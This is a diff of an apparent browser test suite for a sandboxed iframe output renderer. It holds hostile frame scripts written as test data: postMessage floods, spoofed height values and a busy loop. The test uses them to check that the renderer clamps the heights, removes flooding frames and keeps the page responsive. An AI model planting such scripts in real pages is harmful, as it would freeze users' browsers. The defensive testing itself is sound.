+    const buttons = [...document.querySelectorAll(".pycage-render button")].filter((b) => b.textContent === "Show all");
+    const b = buttons[buttons.length - 1];
+    b.focus();
+    return document.activeElement === b;
+  });
+  await page.keyboard.press("Enter");
+  const after = await page.evaluate(() => {
+    const b = document.activeElement;
+    return { text: b.textContent, aria: b.getAttribute("aria-expanded"), lines: document.getElementById(b.getAttribute("aria-controls")).textContent.split("\n").length };
+  });
+  check(expanded && after.text === "Show less" && after.aria === "true" && after.lines > 1000, `the button is focusable and Enter expands the text (${JSON.stringify(after)})`);
+
+  // prefers-color-scheme: dark changes the "auto" theme.
+  await page.emulateMedia({ colorScheme: "dark" });
+  const autoDark = await page.evaluate(() => getComputedStyle(document.querySelectorAll(".pycage-render")[document.querySelectorAll(".pycage-render").length - 1]).backgroundColor);
+  check(autoDark !== h.themed.auto && autoDark === h.themed.dark.bg, `theme "auto" follows prefers-color-scheme (${h.themed.auto} -> ${autoDark})`);
+
+  // Expanding the 400,000-code ANSI flood keeps the page responsive.
+  const expandStall = await page.evaluate(async () => {
+    const box = document.querySelector('[data-case="ansiFlood"]');
+    let last = performance.now();
+    let worst = 0;
+    const t = setInterval(() => {
+      const now = performance.now();
+      worst = Math.max(worst, now - last);
+      last = now;
+    }, 25);
+    await new Promise((r) => setTimeout(r, 50));
+    box.querySelector("button").click();
+    await new Promise((r) => setTimeout(r, 300));
+    clearInterval(t);
+    return { worst: Math.round(worst), spans: box.querySelectorAll("span").length, chars: box.querySelector("pre").textContent.length };
+  });
+  check(expandStall.worst < MAX_STALL_MS, `"Show all" on 4,000,000 characters of ANSI (expanded up to maxExpandedChars, 200,000): worst timer gap ${expandStall.worst} ms, ${expandStall.spans} spans, ${expandStall.chars} characters`);
+
+  // dispose() removes every frame and the message listener of each handle.
+  const disposed = await page.evaluate(() => {
+    const before = document.querySelectorAll("iframe.pycage-frame").length;
+    return before;
+  });
+  check(disposed > 0, `frames were on the page before the end (${disposed})`);
+  const listeners = await page.evaluate(async () => {
+    const R = await import("/render/index.js");
+    const box = document.createElement("div");
+    document.body.append(box);
+    const before = document.querySelectorAll("iframe").length;
+    const hd = R.renderOutputs([{ type: "display", source: "display", data: { "text/html": "<p>x</p>" } }], box);
+    const mid = document.querySelectorAll("iframe").length;
+    hd.dispose();
+    return { added: mid - before, removed: mid - document.querySelectorAll("iframe").length };
+  });
+  check(listeners.added === 1 && listeners.removed === 1, `dispose() removes its frames (${JSON.stringify(listeners)})`);
+  check(typeof r.messageListeners === "number", `message listeners registered by the corpus: ${r.messageListeners} (one per render with frames)`);
+
+
+  // --- frames that flood, lie or spin: each in a browser context of its own
+  // (sandboxed frames of one page share a process, so a spinning frame would
+  // stall the other test frames, though never the page).
+  const floods = {
+    syncFlood: `<script>for(let i=0;i<300000;i++)parent.parent.postMessage({height:i},"*")</script>`,
+    intervalFlood: `<script>setInterval(()=>{for(let i=0;i<1000;i++)parent.parent.postMessage({height:1e9},"*")},0)</script>`,
+    heavyFlood: `<script>const s="x".repeat(5e6);setInterval(()=>{for(let i=0;i<5;i++)parent.parent.postMessage({height:100,pad:s},"*")},0)</script>`,
+    grandchildFlood: `<iframe srcdoc="<script>setInterval(()=>{for(let i=0;i<1000;i++)parent.parent.parent.postMessage({height:5},'*')},0)</script>"></iframe>`,
+    lies: `<script>const v=[1e9,-5,NaN,Infinity,"999999",null,[5000],{height:{valueOf(){return 1}}},1e300,1234.5];let i=0;const t=setInterval(()=>{if(i>=v.length)return clearInterval(t);const x=v[i++];try{parent.parent.postMessage(x&&typeof x==="object"&&!Array.isArray(x)?x:{height:x},"*")}catch(e){}},100)</script><p>lies</p>`,
+    busyLoop: `<script>setTimeout(()=>{const t=Date.now();while(Date.now()-t<4000){}},10)</script><p>busy</p>`,
+  };
+  // What the browser itself costs the page when a frame floods it: the same
+  // frame, bare (sandboxed, no renderer, no listener), removed after the
+  // time the renderer took. A flood's stall is judged against that too: the
+  // renderer must not add to it, though it cannot take away the browser's share.
+  const bare = async (body, ms) => {
+    const context = await browser.newContext();
+    const bp = await context.newPage();
+    await bp.goto(`${U}/`);
+    const worst = await bp.evaluate(async ({ body, ms }) => {
+      let last = performance.now();
+      let worst = 0;
+      const timer = setInterval(() => {
+        const now = performance.now();
+        worst = Math.max(worst, now - last);
+        last = now;
+      }, 25);
+      const f = document.createElement("iframe");
+      f.setAttribute("sandbox", "allow-scripts");
+      f.srcdoc = body.replaceAll("parent.parent.parent.", "parent.parent.").replaceAll("parent.parent.", "parent.");
+      document.body.append(f);
+      await new Promise((r) => setTimeout(r, ms));
+      f.remove();
+      await new Promise((r) => setTimeout(r, 300));
+      clearInterval(timer);
+      return Math.round(worst);
+    }, { body, ms });
+    await context.close();
+    return worst;
+  };
+  for (const [name, body] of Object.entries(floods)) {
+    const context = await browser.newContext();
+    const fp = await context.newPage();
+    await fp.goto(`${U}/`);
+    const f = await fp.evaluate(async ({ body }) => {
+      const R = await import("/render/index.js");
+      const errors = [];
+      addEventListener("error", (e) => errors.push(String(e.message)));
+      let last = performance.now();
+      let worst = 0;
+      const heights = new Set();
+      let frame = null;
+      const timer = setInterval(() => {
+        const now = performance.now();
+        worst = Math.max(worst, now - last);
+        last = now;
+        if (frame?.isConnected) heights.add(parseFloat(frame.style.height));
+      }, 25);
+      const t0 = performance.now();
+      const handle = R.renderOutputs([{ type: "display", source: "display", data: { "text/html": body } }], document.getElementById("out"));
+      frame = handle.element.querySelector("iframe");
+      while (frame.isConnected && performance.now() - t0 < 6000) await new Promise((r) => setTimeout(r, 50));
+      const removedAfter = frame.isConnected ? null : Math.round(performance.now() - t0);
+      await new Promise((r) => setTimeout(r, 300));
+      clearInterval(timer);
+      const text = handle.element.textContent;
+      handle.dispose();
+      return { removedAfter, worst: Math.round(worst), heights: [...heights], text, errors };
+    }, { body });
+    await context.close();
+    pageErrors.push(...f.errors.map((e) => `${name}: ${e}`));
+    if (name === "lies") {
+      check(f.removedAfter === null && f.heights.every((h) => h >= 0 && h <= 2000) && f.heights.includes(2000) && f.heights.includes(0), `lies: heights of 1e9, -5, NaN, Infinity, "999999", [5000], 1e300 are clamped or ignored; the frame stays (${f.heights.join(", ")} px; worst gap ${f.worst} ms)`);
+    } else if (name === "busyLoop") {
+      check(f.removedAfter === null && f.worst < MAX_STALL_MS, `busyLoop: a frame that spins for 4 s does not hold the page (worst gap ${f.worst} ms)`);
+    } else {
+      check(f.removedAfter !== null && f.text.includes("too many messages"), `${name}: the frame is removed with a notice (after ${f.removedAfter} ms)`);
+      const baseline = await bare(body, f.removedAfter ?? 6000);
+      check(f.worst < Math.max(MAX_STALL_MS, baseline + 200), `${name}: the page stays responsive (worst gap ${f.worst} ms; the same frame bare, no renderer: ${baseline} ms)`);
+    }
+  }
+  check(pageErrors.length === 0, `no uncaught error in the flood pages (${pageErrors.slice(0, 3).join(" | ")})`);
+
+  // Still nothing at the listener after everything.
+  await new Promise((res) => setTimeout(res, 500));
+  check(hits.length === 0, `still no request at the listener at the end (${hits.length})`);
+} catch (e) {
+  check(false, `the test ran to its end (${e.stack})`);
+} finally {
+  await browser.close();
+  listener.close();
+  site.close();
+  console.log(`(${((performance.now() - started) / 1000).toFixed(1)} s)`);
+  finish();
+}
